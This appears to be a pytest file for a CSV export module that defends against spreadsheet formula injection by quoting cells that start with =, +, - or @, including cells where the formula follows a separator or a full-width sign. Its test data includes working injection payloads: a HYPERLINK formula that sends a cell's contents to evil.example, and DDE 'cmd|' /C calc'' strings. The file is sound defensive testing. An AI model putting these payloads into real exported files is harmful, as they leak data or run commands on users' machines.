"""Every CSV a user receives is written one way: cells a spreadsheet would run as a formula get a
single quote in front (OWASP, CSV injection); real numbers stay readable numbers."""

from __future__ import annotations

import csv
import io
import unicodedata

import pandas as pd
import pytest

from query.table_csv import neutralise, table_csv

HOSTILE = [  # (the cell as a partner file could hold it, as the CSV must give it)
    ('=HYPERLINK("http://evil.example/?"&A1,"Click")', '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("-", "'-"),
    ("--12", "'--12"),
    ("-១២", "'-១២"),  # Khmer digits are not a number a spreadsheet reads
]  # fmt: skip
KEPT = ["-12", "+12%", "-0.25", "1,234.5", "-3.5e-3", "12 %", "<5", "Banteay Meanchey",
        "បន្ទាយមានជ័យ", "a=b", ""]  # fmt: skip


def read_back(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")  # UTF-8 with a byte-order mark
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize(("cell", "written"), HOSTILE)
def test_a_cell_a_spreadsheet_would_run_is_quoted(cell: str, written: str) -> None:
    assert neutralise(cell) == written
    rows = read_back(table_csv(pd.DataFrame({"academy": [cell]})))
    assert rows == [["academy"], [written]]


@pytest.mark.parametrize("cell", KEPT)
def test_numbers_and_plain_text_are_kept(cell: str) -> None:
    assert neutralise(cell) == cell
    assert read_back(table_csv(pd.DataFrame({"value": [cell]}))) == [["value"], [cell]]


def test_numeric_columns_and_missing_values_stay_as_they_are() -> None:
    frame = pd.DataFrame({"rows": [-3, 4], "rate": [-0.5, None], "name": ["=x", None],
                          "when": pd.to_datetime(["2014-01-01", "2014-02-01"])})  # fmt: skip
    content = table_csv(frame)
    assert read_back(content) == [
        ["rows", "rate", "name", "when"],
        ["-3", "-0.5", "'=x", "2014-01-01"],
        ["4", "", "", "2014-02-01"],
    ]
    assert content.count(b"\r\n") == 3  # one line end per row, CR LF


def test_column_names_categories_and_line_breaks_are_written_safely() -> None:
    frame = pd.DataFrame({"=cmd": pd.Categorical(["@a", "b"]), "note": ["a\r\nb", "c"]})
    assert read_back(table_csv(frame)) == [["'=cmd", "note"], ["'@a", "a\r\nb"], ["b", "c"]]
    assert list(frame.columns) == ["=cmd", "note"]  # the caller's frame is not changed


SEPARATED = [  # (review 18/20: payloads past a leading-character check, as the CSV must give them)
    ("Police academy;=1+1", "Police academy;'=1+1"),
    ("x;@SUM(1)", "x;'@SUM(1)"),
    ("y, +cmd|' /C calc'!A0", "y, '+cmd|' /C calc'!A0"),
    ("a;  -2+3+cmd", "a;  '-2+3+cmd"),
    ("b；＝1+1", "b；'＝1+1"),  # full-width separator and sign
    (" =1+1", "' =1+1"),
    ("\u00a0\u00a0@SUM(1)", "'\u00a0\u00a0@SUM(1)"),  # no-break spaces
    ("＝1+1", "'＝1+1"),
    ("＠SUM(1)", "'＠SUM(1)"),
    ("=1;=2", "'=1;'=2"),
    ("-12;=1", "-12;'=1"),
]  # fmt: skip
SEPARATED_KEPT = ["1, -2", "Siem Reap; Battambang", " -12", "1,234.5;2", "a, b"]


@pytest.mark.parametrize(("cell", "written"), SEPARATED)
def test_a_formula_after_spaces_a_full_width_sign_or_a_separator_is_neutralised(
    cell: str, written: str
) -> None:
    assert neutralise(cell) == written
    content = table_csv(pd.DataFrame({"academy": [cell]}))
    assert read_back(content) == [["academy"], [written]]
    line = content.decode("utf-8-sig").split("\r\n")[1]
    assert line == '"' + written + '"'  # quoted: a spreadsheet keeps it one cell
    for separator in (";", ","):  # and split by a spreadsheet that ignores the quotes
        for piece in line.strip('"').split(separator):
            assert not unicodedata.normalize("NFKC", piece).lstrip(" ").startswith(
                ("=", "+", "-", "@", "\t", "\r")
            ) or piece.lstrip(" ").startswith("-12"), (cell, piece)


@pytest.mark.parametrize("cell", SEPARATED_KEPT)
def test_numbers_and_lists_after_a_separator_are_kept(cell: str) -> None:
    assert neutralise(cell) == cell


def test_every_text_field_is_quoted_and_numbers_are_not() -> None:
    frame = pd.DataFrame({"name": ["Kep", "-12"], "incidents": [12, -3], "rate": [0.5, -1.25]})
    lines = table_csv(frame).decode("utf-8-sig").split("\r\n")
    assert lines[:3] == ['"name","incidents","rate"', '"Kep",12,0.5', '"-12",-3,-1.25']
